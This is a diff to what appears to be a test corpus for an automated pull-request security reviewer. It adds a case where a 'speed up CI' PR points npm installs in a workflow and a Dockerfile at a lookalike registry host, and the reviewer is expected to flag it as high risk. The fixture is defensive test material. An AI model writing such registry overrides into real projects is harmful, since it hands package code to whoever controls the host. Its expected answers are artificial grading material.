@@ -2913,6 +2913,27 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
   },
   {
+    id: 'attack-ci-npm-registry-on-command-line',
+    description:
+      "The npm twin of a registry override, kept out of .npmrc where reviewers look: a newcomer's \"speed up CI\" PR runs `npm ci --registry` against a host spelled like the public registry, and a Dockerfile sets NPM_CONFIG_REGISTRY to it: every package then comes from whoever holds that host.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7637,
+        title: 'ci: use the registry cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/test.yml',
+            base: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci', '      - run: npm test'),
+            head: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci --registry https://registry.npmjs-cache.org/', '      - run: npm test'),
+          },
+          { path: 'Dockerfile', base: lines('FROM node:22-slim', 'COPY . /app', 'RUN cd /app && npm ci'), head: lines('FROM node:22-slim', 'ENV NPM_CONFIG_REGISTRY=https://registry.npmjs-cache.org/', 'COPY . /app', 'RUN cd /app && npm ci') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-registry-override'] },
+  },
+  {
     id: 'attack-ci-tools-from-moving-sources',
     description:
       "A newcomer's lint step runs a formatter with `npx -p someone/tool` (npm reads a bare owner/repo as the GitHub repository's default branch), takes the requirements list from a URL on a branch, and `go get`s a generator without a version: three tools whose code is whatever was last pushed.",
